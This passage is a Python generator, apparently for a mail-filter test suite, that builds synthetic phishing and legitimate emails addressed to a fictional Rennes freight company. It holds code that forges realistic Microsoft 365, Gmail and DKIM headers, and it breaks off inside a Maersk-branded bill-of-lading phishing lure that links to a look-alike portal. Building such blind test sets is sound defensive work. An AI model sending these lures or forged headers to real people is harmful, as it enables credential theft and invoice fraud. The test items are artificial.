#!/usr/bin/env python3
"""Blind test set 51: mail received by Kerlann Industries (logistics and freight, Rennes, Microsoft 365).

Written without looking at the filter, its rules or the other samples. 50 attacks (freight and
shipping lures, customs and tax, fuel cards and tolls, banks and factoring, freight exchanges,
Microsoft 365 from compromised partner tenants, spoofs of kerlann-industries.fr, supplier RIB and
invoice fraud, CEO fraud, fake recruiting, a few malware deliveries) and 25 legitimate look-alikes.

Run: cd /work/main && .venv/bin/python samples/tools/build_blind51_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import re
import sys
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 51
ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / f"blind{N}_manifest.txt"

# The engineers move a legitimate stem between clean and bulk here.
# Maintainer's corrections after the first scan (the names keep the writer's kind):
REFILED: dict[str, str] = {
    # Notices from no-reply senders and bulk-mail services: the engine's classification calls them bulk.
    "b51-legit-maersk-arrival-notice": "bulk",
    "b51-legit-cmacgm-facture": "bulk",
    "b51-legit-hapag-draft-swb": "bulk",
    "b51-legit-dhl-droits-taxes": "bulk",
    "b51-legit-chronopost-predict": "bulk",
    "b51-legit-fedex-facture": "bulk",
    "b51-legit-douane-eori": "bulk",
    "b51-legit-impots-messagerie": "bulk",
    "b51-legit-urssaf-attestation": "bulk",
    "b51-legit-totalenergies-facture": "bulk",
    "b51-legit-ulys-releve": "bulk",
    "b51-legit-dkv-facture": "bulk",
    "b51-legit-ca-document": "bulk",
    "b51-legit-qonto-virement": "bulk",
    "b51-legit-chorus-pro-statut": "bulk",
    "b51-legit-teleroute-alerte": "bulk",
    "b51-legit-nl-factuur-exact": "bulk",
    "b51-legit-sharepoint-client": "bulk",
}

ORG = "kerlann-industries.fr"
TENANT = "5b0c3e2f-8a41-4d7e-9c3b-7f2a1d6e4b90"

# --------------------------------------------------------------------------------------------
# Deterministic helpers
# --------------------------------------------------------------------------------------------


def hx(seed: str, n: int = 32, upper: bool = False) -> str:
    out = ""
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{counter}".encode()).hexdigest()
        counter += 1
    out = out[:n]
    return out.upper() if upper else out


def rbytes(seed: str, n: int) -> bytes:
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha512(f"{seed}#{counter}".encode()).digest()
        counter += 1
    return out[:n]


def b64(seed: str, nbytes: int) -> str:
    return base64.b64encode(rbytes(seed, nbytes)).decode()


def b64url(seed: str, nbytes: int) -> str:
    return base64.urlsafe_b64encode(rbytes(seed, nbytes)).decode().rstrip("=")


def guid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hx(seed, 12), 16) % (hi - lo + 1)


def fold(line: str, width: int = 78) -> str:
    """Fold a header line at spaces, the way MTAs do."""
    lines: list[str] = []
    current = ""
    for word in line.split(" "):
        if not current:
            current = word
        elif len(current) + 1 + len(word) <= width:
            current += " " + word
        else:
            lines.append(current)
            current = word
    if current:
        lines.append(current)
    return "\n ".join(lines)


def chop(value: str, first: int = 58, width: int = 70, sep: str = "\n\t ") -> str:
    parts = [value[:first]]
    rest = value[first:]
    while rest:
        parts.append(rest[:width])
        rest = rest[width:]
    return sep.join(parts)


# --------------------------------------------------------------------------------------------
# Time
# --------------------------------------------------------------------------------------------


def _last_sunday(year: int, month: int) -> datetime:
    d = datetime(year, month, 31)
    return d - timedelta(days=(d.weekday() + 1) % 7)


def paris(stamp: str) -> datetime:
    """Local time in Rennes/Paris (CET/CEST)."""
    naive = datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S")
    start = _last_sunday(naive.year, 3).replace(hour=2)
    end = _last_sunday(naive.year, 10).replace(hour=3)
    hours = 2 if start <= naive < end else 1
    return naive.replace(tzinfo=timezone(timedelta(hours=hours)))


def tz_name(dt: datetime) -> str:
    return "CEST" if dt.utcoffset() == timedelta(hours=2) else "CET"


def shift(dt: datetime, hours: int) -> datetime:
    """The same instant in another fixed offset."""
    return dt.astimezone(timezone(timedelta(hours=hours)))


def pacific(dt: datetime) -> datetime:
    utc = dt.astimezone(timezone.utc)
    y = utc.year
    march = datetime(y, 3, 1)
    dst_start = march + timedelta(days=(6 - march.weekday()) % 7 + 7, hours=10)
    nov = datetime(y, 11, 1)
    dst_end = nov + timedelta(days=(6 - nov.weekday()) % 7, hours=9)
    naive = utc.replace(tzinfo=None)
    hours = -7 if dst_start <= naive < dst_end else -8
    return utc.astimezone(timezone(timedelta(hours=hours)))


def pst_name(dt: datetime) -> str:
    return "PDT" if dt.utcoffset() == timedelta(hours=-7) else "PST"


def rfc(dt: datetime) -> str:
    return format_datetime(dt)


def utc(dt: datetime, seconds: float = 0) -> datetime:
    return dt.astimezone(timezone.utc) + timedelta(seconds=seconds)


def exch_build(dt: datetime) -> str:
    months = (dt.year - 2025) * 12 + dt.month - 1
    return f"15.20.{8293 + months * 57}.{num(str(dt), 9, 31)}"


# --------------------------------------------------------------------------------------------
# DKIM
# --------------------------------------------------------------------------------------------

BH_RELAXED = "@@BHR@@"
BH_SIMPLE = "@@BHS@@"


def body_hash(body: bytes, relaxed: bool) -> str:
    lines = body.split(b"\n")
    if relaxed:
        lines = [re.sub(rb"[ \t]+", b" ", line).rstrip(b" \t") for line in lines]
    while lines and lines[-1] == b"":
        lines.pop()
    data = b"".join(line + b"\r\n" for line in lines)
    if not relaxed and not data:
        data = b"\r\n"
    return base64.b64encode(hashlib.sha256(data).digest()).decode()


def dkim(d: str, s: str, when: datetime, h: str, seed: str, c: str = "relaxed/relaxed",
         extra: str = "", q: bool = False, a: str = "rsa-sha256", bits: int = 2048, pre: str = "",
         stamp: bool = True) -> str:
    t = f" t={int(when.timestamp())};" if stamp else ""
    bh = BH_SIMPLE if c.endswith("/simple") else BH_RELAXED
    sig = b64(f"dkim-{seed}-{d}-{s}", 64 if a == "ed25519-sha256" else bits // 8)
    qq = " q=dns/txt;" if q else ""
    return (f"{pre}DKIM-Signature: v=1; a={a};{qq} c={c}; d={d};\n\ts={s};{t}{extra}\n"
            f"\th={h};\n\tbh={bh};\n\tb={chop(sig)}")


# --------------------------------------------------------------------------------------------
# Microsoft 365 receiving side (Kerlann's tenant, EU)
# --------------------------------------------------------------------------------------------

FRONTS = ["AM2PEPF0001C717", "DU2PEPF00028D13", "AMS0EPF000001A2", "DB1PEPF000509F0", "AM3PEPF0000A795",
          "DU6PEPF0000B61F", "AMS1EPF00000047", "DB5PEPF00014B8C", "AM4PEPF00027A6C", "DU2PEPF0001E9C4"]
CAS = ["AM0PR02CA0112", "DU2PR04CA0278", "AS9PR06CA0431", "DB9PR02CA0019", "AM8P190CA0027",
       "PA7P264CA0350", "AS4P190CA0041", "DU7P194CA0012", "AM6P191CA0093"]
MBX = ["PA4PR08MB7213", "PAXPR08MB6592", "AS8PR08MB9967", "DBBPR08MB6201"]


def _ipv6(seed: str) -> str:
    h = hx(seed, 8)
    return f"2603:10a6:{h[:3]}:{h[3:6]}::{h[6:8]}"


def m365_receive(seed: str, t: datetime, helo: str, ip: str, tls: str | None = "TLS1_3"):
    """Returns (top hops above the auth headers, inbound hop below them, front host)."""
    front = FRONTS[num(seed + "f", 0, len(FRONTS) - 1)]
    region = f"eurprd0{num(seed + 'r', 2, 9)}"
    ca = CAS[num(seed + "c", 0, len(CAS) - 1)]
    mbx = MBX[num(seed + "m", 0, len(MBX) - 1)]
    mbx2 = MBX[(MBX.index(mbx) + 1) % len(MBX)]
    build = exch_build(t)
    t0 = utc(t, num(seed + "d", 2, 9))
    t1 = t0 + timedelta(seconds=1)
    t2 = t1 + timedelta(seconds=num(seed + "e", 0, 1))
    cipher = {"TLS1_3": "version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384",
              "TLS1_2": "version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384"}
    via = f"with Microsoft SMTP Server ({cipher[tls]}) id {build}" if tls else f"with Microsoft SMTP Server id {build}"
    top = [
        fold(f"Received: from {mbx2}.eurprd08.prod.outlook.com ({_ipv6(seed + 'a')}) by "
             f"{mbx}.eurprd08.prod.outlook.com with HTTPS; {rfc(t2)}"),
        fold(f"Received: from {ca}.{region}.prod.outlook.com ({_ipv6(seed + 'b')}) by "
             f"{mbx}.eurprd08.prod.outlook.com ({_ipv6(seed + 'x')}) with Microsoft SMTP Server "
             f"({cipher['TLS1_2']}) id {build}; {rfc(t1)}"),
        fold(f"Received: from {front}.{region}.prod.outlook.com ({_ipv6(seed + 'b').split('::')[0]}:cafe::{hx(seed + 'y', 2)}) by "
             f"{ca}.outlook.office365.com ({_ipv6(seed + 'b')}) with Microsoft SMTP Server "
             f"({cipher['TLS1_3']}) id {build} via Frontend Transport; {rfc(t1)}"),
    ]
    inner = f"10.167.{num(seed + 'i', 1, 250)}.{num(seed + 'j', 2, 250)}"
    inbound = fold(f"Received: from {helo} ({ip}) by {front}.mail.protection.outlook.com ({inner}) "
                   f"{via} via Frontend Transport; {rfc(t0)}")
    return top, inbound, f"{front}.{region}.prod.outlook.com", t0


def auth_results(ip: str, spf: str, mailfrom: str, dkims, from_dom: str, dmarc: str, action: str,
                 compauth: str, reason: str) -> str:
    parts = [f"spf={spf} (sender IP is {ip}) smtp.mailfrom={mailfrom};"]
    for res, d in dkims:
        if res == "pass":
            parts.append(f"dkim=pass (signature was verified) header.d={d};")
        elif res == "none":
            parts.append("dkim=none (message not signed) header.d=none;")
        else:
            parts.append(f"dkim=fail (body hash did not verify) header.d={d};")
    parts.append(f"dmarc={dmarc} action={action} header.from={from_dom};compauth={compauth} reason={reason}")
    return fold("Authentication-Results: " + " ".join(parts).replace("; dmarc=", ";dmarc=").replace("; dkim", "; dkim"))


def received_spf(spf: str, mailfrom: str, ip: str, helo: str) -> str:
    if spf == "pass":
        s = (f"Received-SPF: Pass (protection.outlook.com: domain of {mailfrom} designates {ip} as permitted "
             f"sender) receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C")
    elif spf == "fail":
        s = (f"Received-SPF: Fail (protection.outlook.com: domain of {mailfrom} does not designate {ip} as "
             f"permitted sender) receiver=protection.outlook.com; client-ip={ip}; helo={helo};")
    elif spf == "softfail":
        s = (f"Received-SPF: SoftFail (protection.outlook.com: domain of transitioning {mailfrom} discourages "
             f"use of {ip} as permitted sender)")
    else:
        s = f"Received-SPF: None (protection.outlook.com: {mailfrom} does not designate permitted sender hosts)"
    return fold(s)


def ms_tail(seed: str, t0: datetime, front: str, attach: bool | None = None, internal: bool = False) -> str:
    stamp = t0.strftime("%d %b %Y %H:%M:%S") + f".{num(seed + 'ms', 1000, 9999)} (UTC)"
    netid = guid(seed + "net")
    lines = [
        f"X-MS-Exchange-Organization-ExpirationStartTime: {stamp}",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id: {netid}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {TENANT}:0",
        f"X-MS-Exchange-Organization-MessageDirectionality: {'Originating' if internal else 'Incoming'}",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-Exchange-Organization-AuthSource: {front}",
        f"X-MS-Exchange-Organization-AuthAs: {'Internal' if internal else 'Anonymous'}",
    ]
    if internal:
        lines.append("X-MS-Exchange-Organization-AuthMechanism: 04")
    lines += [
        f"X-MS-Office365-Filtering-Correlation-Id: {guid(seed + 'corr')}",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {stamp}",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {netid}",
        f"X-MS-Exchange-CrossTenant-Id: {TENANT}",
        f"X-MS-Exchange-CrossTenant-AuthSource: {front}",
        f"X-MS-Exchange-CrossTenant-AuthAs: {'Internal' if internal else 'Anonymous'}",
        f"X-MS-Exchange-CrossTenant-FromEntityHeader: {'Hosted' if internal else 'Internet'}",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {MBX[num(seed + 'm', 0, len(MBX) - 1)]}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(seed + 'lat', 1, 4)}.{num(seed + 'lat2', 1000000, 9999999)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: {exch_build(t0)[:-3]}.0{num(seed + 'bcc', 10, 40)}",
    ]
    if attach is not None:
        lines.insert(0, f"X-MS-Has-Attach: {'yes' if attach else ''}".rstrip())
    return "\n".join(lines)


# --------------------------------------------------------------------------------------------
# Sending-side helpers
# --------------------------------------------------------------------------------------------


def postfix_hop(from_part: str, by: str, qid: str, rcpt: str, dt: datetime, esmtp: str = "ESMTPS",
                cipher: bool = True, zone: str | None = None) -> str:
    tls = ("\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 "
           "server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)") if cipher else ""
    zone = zone or (tz_name(dt) if dt.utcoffset() in (timedelta(hours=1), timedelta(hours=2)) else "UTC")
    return (f"Received: from {from_part}{tls}\n\tby {by} (Postfix) with {esmtp} id {qid}\n"
            f"\tfor <{rcpt}>; {rfc(dt)} ({zone})")


def postfix_qid(seed: str) -> str:
    alphabet = "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz"
    raw = rbytes(seed + "qid", 14)
    return "4" + "".join(alphabet[b % len(alphabet)] for b in raw[:13])


def exim_hop(helo: str, ip: str, by: str, dt: datetime, seed: str, auth: str | None = None, rcpt: str | None = None) -> str:
    alnum = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    raw = rbytes(seed + "exim", 14)
    ident = "".join(alnum[b % 62] for b in raw[:6]) + "-" + "".join(alnum[b % 62] for b in raw[6:12]) + "-" + "".join(alnum[b % 62] for b in raw[12:14])
    auth_txt = f"\n\t(Exim 4.98) (envelope-from <{auth}>)" if auth else "\n\t(Exim 4.98)"
    for_txt = f"\n\tfor {rcpt}" if rcpt else ""
    return (f"Received: from [{ip}] (port={num(seed + 'port', 49152, 65000)} helo={helo})\n\tby {by} with esmtpsa"
            f"  (TLS1.3) tls TLS_AES_256_GCM_SHA384{auth_txt}\n\tid {ident}{for_txt};\n\t{rfc(dt)}")


def gmail_parts(seed: str, dt: datetime, rcpt: str, sender: str, h: str = "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"):
    """Received line, helo and ip of a Gmail submission and its signature headers (above From)."""
    node = num(seed + "gnode", 41, 54)
    host = f"mail-{['wm1', 'wr1', 'ej1', 'lf1', 'ed1'][num(seed + 'gh', 0, 4)]}-f{node}.google.com"
    ip = f"209.85.{[128, 221, 218, 167, 208][num(seed + 'gh', 0, 4)]}.{node}"
    pt = pacific(dt)
    smtp_id = f"{hx(seed + 'sid', 10)}-{hx(seed + 'sid2', 8)}so{num(seed + 'sid3', 1000000, 9999999)}f8f.{num(seed + 'sid4', 0, 3)}"
    hop = (f"Received: by {host} with SMTP id {smtp_id}\n        for <{rcpt}>; {rfc(pt)} ({pst_name(pt)})")
    sig = dkim("gmail.com", "20230601", dt, h, seed, extra=f" x={int(dt.timestamp()) + 604800}; darn={rcpt.split('@')[1]};")
    gsig = dkim("1e100.net", "20230601", dt, h, seed + "x", extra=f" x={int(dt.timestamp()) + 604800};", pre="X-Google-")
    rest = (f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 48).rstrip('=')}\n"
            f"X-Gm-Gg: ASbGnc{chop(b64(seed + 'ggg', 150).rstrip('='), 70, 76, chr(10) + chr(9))}\n"
            f"X-Google-Smtp-Source: AGHT+I{b64(seed + 'gss', 60).rstrip('=')}\n"
            f"X-Received: by 2002:a05:6000:{hx(seed + 'xr', 4)} with SMTP id {hx(seed + 'xr2', 12)}-{hx(seed + 'xr3', 12)}"
            f".{num(seed + 'xr4', 10, 99)}.{num(seed + 'xr5', 1000000000000, 9999999999999)};\n        {rfc(pt)} ({pst_name(pt)})")
    return hop, host, ip, sig + "\n" + gsig + "\n" + rest


def gmail_msgid(seed: str) -> str:
    return f"<CA{b64(seed + 'gid', 40)[:52].replace('/', '_')}@mail.gmail.com>"


def outlook_msgid(seed: str, server: str) -> str:
    host, _, domain = server.partition(".")
    return f"<{host}{hx(seed + 'oid', 28, upper=True)}@{host}.{domain.lower()}>"


def thread_index(seed: str, dt: datetime, replies: int = 0) -> str:
    """Outlook Thread-Index: 6 high bytes of the FILETIME, a GUID, then 5 bytes per reply."""
    filetime = (int(dt.timestamp()) + 11644473600) * 10_000_000
    data = filetime.to_bytes(8, "big")[:6] + rbytes(seed + "thread", 16)
    for n in range(replies):
        data += rbytes(seed + f"reply{n}", 5)
    return base64.b64encode(data).decode()


def m365_sender(seed: str, dt: datetime, domain: str, server: str, rcpt: str, sel: str = "selector1",
                h: str = "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck") -> tuple[str, str, str, str]:
    """Sender hosted on Microsoft 365: (hops, helo, ip, signature headers above From)."""
    pool = ["EUR05-AM6-obe", "EUR02-DB5-obe", "EUR03-DBA-obe", "EUR01-HE1-obe", "EUR05-VI1-obe", "EUR02-AM0-obe"]
    helo = f"{pool[num(seed + 'obe', 0, len(pool) - 1)]}.outbound.protection.outlook.com"
    ip = f"40.107.{num(seed + 'ip3', 20, 255)}.{num(seed + 'ip4', 20, 250)}"
    t = utc(dt, 1)
    fe = f"fe80::{hx(seed + 'fe', 4)}:{hx(seed + 'fe2', 4)}:{hx(seed + 'fe3', 4)}:{hx(seed + 'fe4', 4)}%5"
    hops = fold(f"Received: from {server} ([{fe}]) by {server} ([{fe}]) with mapi id {exch_build(dt)}; {rfc(t)}")
    arc_ar = (f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={domain}; dmarc=pass action=none"
              f" header.from={domain};\n dkim=pass header.d={domain}; arc=none")
    sigs = (f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={chop(b64(seed + 'arcs', 256), 60, 76, chr(10) + ' ')}\n"
            f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
            f" h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
            f" bh={BH_RELAXED};\n b={chop(b64(seed + 'arcm', 256), 60, 76, chr(10) + ' ')}\n"
            f"{arc_ar}\n"
            + dkim(domain, sel, dt, h, seed, stamp=False))
    return hops, helo, ip, sigs


def outlook_html(paragraphs: list[str], signature: list[str] | None = None, lang: str = "FR",
                 charset: str = "iso-8859-1", quote: str = "") -> str:
    body = "\n".join(f'<p class="MsoNormal">{p if p else "<o:p>&nbsp;</o:p>"}<o:p></o:p></p>' for p in paragraphs)
    sig = ""
    if signature:
        sig = "\n".join(f'<p class="MsoNormal"><span style="font-size:9.0pt;color:#1F3864">{s}</span><o:p></o:p></p>'
                        for s in signature)
    return (f'<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            f'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
            f'<meta http-equiv="Content-Type" content="text/html; charset={charset}">\n'
            f'<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            f'<style><!--\n/* Font Definitions */\n@font-face\n\t{{font-family:"Cambria Math";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}}\n'
            f'@font-face\n\t{{font-family:Aptos;}}\n/* Style Definitions */\np.MsoNormal, li.MsoNormal, div.MsoNormal\n'
            f'\t{{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Aptos",sans-serif;\n\tmso-ligatures:standardcontextual;\n\tmso-fareast-language:EN-US;}}\n'
            f'a:link, span.MsoHyperlink\n\t{{mso-style-priority:99;\n\tcolor:#467886;\n\ttext-decoration:underline;}}\n'
            f'.MsoChpDefault\n\t{{mso-style-type:export-only;\n\tfont-size:11.0pt;}}\n'
            f'@page WordSection1\n\t{{size:612.0pt 792.0pt;\n\tmargin:70.85pt 70.85pt 70.85pt 70.85pt;}}\n'
            f'div.WordSection1\n\t{{page:WordSection1;}}\n--></style>\n</head>\n'
            f'<body lang="{lang}" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
            f'<div class="WordSection1">\n{body}\n{sig}\n{quote}</div>\n</body>\n</html>\n')


def gmail_html(paragraphs: list[str]) -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paragraphs)
    return f'<div dir="ltr">{inner}</div>\n'


def strip_tags(html: str) -> str:
    s = re.sub(r"(?is)<(style|script|head)[^>]*>.*?</\1>", "", html)
    s = re.sub(r"(?i)<br\s*/?>", "\n", s)
    s = re.sub(r"(?i)</(p|div|tr|h1|h2|h3|li|table)>", "\n", s)
    s = re.sub(r'(?i)<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>', r"\2 [\1]", s)
    s = re.sub(r"<[^>]+>", "", s)
    for a, b in (("&nbsp;", " "), ("&amp;", "&"), ("&eacute;", "é"), ("&#8217;", "'"), ("&lt;", "<"), ("&gt;", ">"),
                 ("&euro;", "€"), ("&copy;", "©"), ("&agrave;", "à"), ("&egrave;", "è"), ("&ccedil;", "ç"), ("&middot;", "·")):
        s = s.replace(a, b)
    lines = [re.sub(r"[ \t]+", " ", line).strip() for line in s.split("\n")]
    out: list[str] = []
    for line in lines:
        if line or (out and out[-1]):
            out.append(line)
    return "\n".join(out).strip() + "\n"


def alt(plain: str, html: str, boundary: str, encoding: str = "quoted-printable", charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", encoding, charset), text(html, "html", encoding, charset)])


def pdf_doc(lines: list[str], title: str, link: str | None = None) -> bytes:
    return files.pdf(lines, (link, (150, 420, 445, 460)) if link else None, title=title)


# --------------------------------------------------------------------------------------------
# Assembly
# --------------------------------------------------------------------------------------------

SAMPLES: list[tuple[str, str, str, bytes]] = []


def finish(stem: str, folder: str, desc: str, headers: str, body) -> None:
    raw = message(headers, body)
    split = raw.index(b"\n\n") + 2
    content = raw[split:]
    if BH_RELAXED in headers or BH_SIMPLE in headers:
        headers = headers.replace(BH_RELAXED, body_hash(content, True)).replace(BH_SIMPLE, body_hash(content, False))
        raw = message(headers, body)
    SAMPLES.append((stem, REFILED.get(stem, folder), desc, raw))


def deliver(stem: str, folder: str, desc: str, *, t: datetime, helo: str, ip: str, spf: str, mailfrom: str,
            dkims, from_dom: str, dmarc: str, action: str = "none", compauth: str, reason: str,
            sender_hops: list[str] | tuple = (), headers: str, body, attach: bool | None = None,
            return_path: str | None = None, tls: str | None = "TLS1_3") -> None:
    top, inbound, front, t0 = m365_receive(stem, t, helo, ip, tls)
    block = "\n".join(top) + "\n" + auth_results(ip, spf, mailfrom, dkims, from_dom, dmarc, action, compauth, reason)
    block += "\n" + received_spf(spf, mailfrom, ip, helo) + "\n" + inbound
    for hop in sender_hops:
        block += "\n" + hop
    block += "\n" + headers.strip("\n")
    rp = return_path if return_path else None
    if rp:
        block += f"\nReturn-Path: {rp}"
    block += "\n" + ms_tail(stem, t0, front, None if "X-MS-Has-Attach" in headers else attach)
    if "\nmime-version:" not in "\n" + block.lower():
        block += "\nMIME-Version: 1.0"
    finish(stem, folder, desc, block, body)


def internal(stem: str, folder: str, desc: str, *, t: datetime, headers: str, body, attach: bool = False) -> None:
    """Mail between two Kerlann mailboxes inside the tenant."""
    mbx = MBX[num(stem + "m", 0, len(MBX) - 1)]
    src = MBX[(MBX.index(mbx) + 2) % len(MBX)]
    t1 = utc(t, 1)
    fe = f"fe80::{hx(stem + 'fe', 4)}:{hx(stem + 'fe2', 4)}:{hx(stem + 'fe3', 4)}:{hx(stem + 'fe4', 4)}%6"
    block = (fold(f"Received: from {src}.eurprd08.prod.outlook.com ({_ipv6(stem + 'a')}) by {mbx}.eurprd08.prod.outlook.com "
                  f"with HTTPS; {rfc(utc(t, 2))}") + "\n" +
             fold(f"Received: from {src}.eurprd08.prod.outlook.com ([{fe}]) by {src}.eurprd08.prod.outlook.com ([{fe}]) "
                  f"with mapi id {exch_build(t)}; {rfc(t1)}") + "\n" +
             headers.strip("\n") + "\n" +
             "Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from=kerlann-industries.fr;\n" +
             ms_tail(stem, t1, f"{src}.eurprd08.prod.outlook.com", attach, internal=True).replace(
                 "X-MS-Exchange-Organization-ExpirationStartTime", "X-MS-Exchange-Organization-SCL: -1\nX-MS-Exchange-Organization-ExpirationStartTime", 1)
             + "\nMIME-Version: 1.0")
    finish(stem, folder, desc, block, body)


# --------------------------------------------------------------------------------------------
# Header text
# --------------------------------------------------------------------------------------------


def ew(s: str, charset: str = "utf-8", enc: str = "Q", maxlen: int = 60) -> str:
    """RFC 2047 encoded words for a header value (left alone when ASCII)."""
    if all(ord(c) < 128 for c in s):
        return s
    codec = {"UTF-8": "utf-8", "utf-8": "utf-8", "iso-8859-1": "latin-1", "ISO-8859-1": "latin-1",
             "Windows-1252": "cp1252", "windows-1252": "cp1252"}[charset]
    words: list[str] = []
    if enc == "B":
        chunk = ""
        for ch in s:
            if len((chunk + ch).encode(codec)) > 45:
                words.append(chunk)
                chunk = ch
            else:
                chunk += ch
        words.append(chunk)
        return "\n ".join(f"=?{charset}?B?{base64.b64encode(w.encode(codec)).decode()}?=" for w in words)
    cur = ""
    for ch in s:
        if ch == " ":
            e = "_"
        elif ch.isascii() and (ch.isalnum() or ch in "!*+-/"):
            e = ch
        else:
            e = "".join(f"={b:02X}" for b in ch.encode(codec))
        if len(cur) + len(e) > maxlen:
            words.append(cur)
            cur = e
        else:
            cur += e
    words.append(cur)
    return "\n ".join(f"=?{charset}?Q?{w}?=" for w in words)


def addr(name: str, email: str, charset: str = "utf-8", enc: str = "Q", quote: bool = False) -> str:
    if not name:
        return f"<{email}>" if quote else email
    if all(ord(c) < 128 for c in name):
        if quote or any(c in name for c in ',.:;()[]@"|'):
            return f'"{name}" <{email}>'
        return f"{name} <{email}>"
    return f"{ew(name, charset, enc)} <{email}>"


def subject(s: str, charset: str = "utf-8", enc: str = "Q") -> str:
    return "Subject: " + ew(s, charset, enc)


# Kerlann people and shared mailboxes
K = {
    "daf": ("Anne-Sophie Le Goff", "anne-sophie.legoff@kerlann-industries.fr"),
    "compta": ("Erwan Guillou", "erwan.guillou@kerlann-industries.fr"),
    "comptable": ("Morgane Tanguy", "morgane.tanguy@kerlann-industries.fr"),
    "ceo": ("Yannick Le Bihan", "yannick.lebihan@kerlann-industries.fr"),
    "rh": ("Gwenaëlle Riou", "gwenaelle.riou@kerlann-industries.fr"),
    "dsi": ("Thomas Perrin", "thomas.perrin@kerlann-industries.fr"),
    "douane": ("Loïc Jaouen", "loic.jaouen@kerlann-industries.fr"),
    "exploit": ("Sandrine Morvan", "sandrine.morvan@kerlann-industries.fr"),
    "affret": ("Kévin Briand", "kevin.briand@kerlann-industries.fr"),
    "import": ("Claire Hamon", "claire.hamon@kerlann-industries.fr"),
    "parc": ("Julien Kerdraon", "julien.kerdraon@kerlann-industries.fr"),
}


def to(key: str, charset: str = "utf-8", enc: str = "Q") -> str:
    name, email = K[key]
    return addr(name, email, charset, enc)


def mail(key: str) -> str:
    return K[key][1]


# ============================================================================================
# ATTACKS
# ============================================================================================

# ---------------------------------------------------------------- freight and shipping lures


def a_maersk_bl_draft() -> None:
    stem = "b51-phish-maersk-bl-draft"
    t = paris("2025-01-13 10:42:17")
    rcpt = "import@kerlann-industries.fr"
    url = "https://maersk-docs-portal.pages.dev/bl/258716493?cid=import%40kerlann-industries.fr"
    html = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Maersk</title></head>
<body style="margin:0;padding:0;background:#f2f4f5;font-family:'Maersk Text',Arial,Helvetica,sans-serif;color:#141414">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f2f4f5"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:4px solid #42b0d5">
<tr><td style="padding:22px 32px 8px 32px"><img src="https://www.maersk.com/~/media_sc9/maersk/logos/maersk-logo.png" width="132" alt="MAERSK" style="display:block;border:0"></td></tr>
<tr><td style="padding:8px 32px 0 32px;font-size:20px;font-weight:bold;color:#00243d">Draft Bill of Lading ready for review</td></tr>
<tr><td style="padding:14px 32px 0 32px;font-size:14px;line-height:21px">
Dear Customer,<br><br>
The draft Bill of Lading for the shipment below has been issued and is awaiting your approval.<br><br>
<table cellpadding="4" cellspacing="0" style="font-size:13px;border-collapse:collapse;width:100%">
<tr><td style="color:#6b7a85;width:42%">Booking number</td><td><b>258716493</b></td></tr>
<tr><td style="color:#6b7a85">Vessel / Voyage</td><td>MAERSK KENTUCKY / 502W</td></tr>
<tr><td style="color:#6b7a85">Port of Loading</td><td>Ningbo, CN</td></tr>
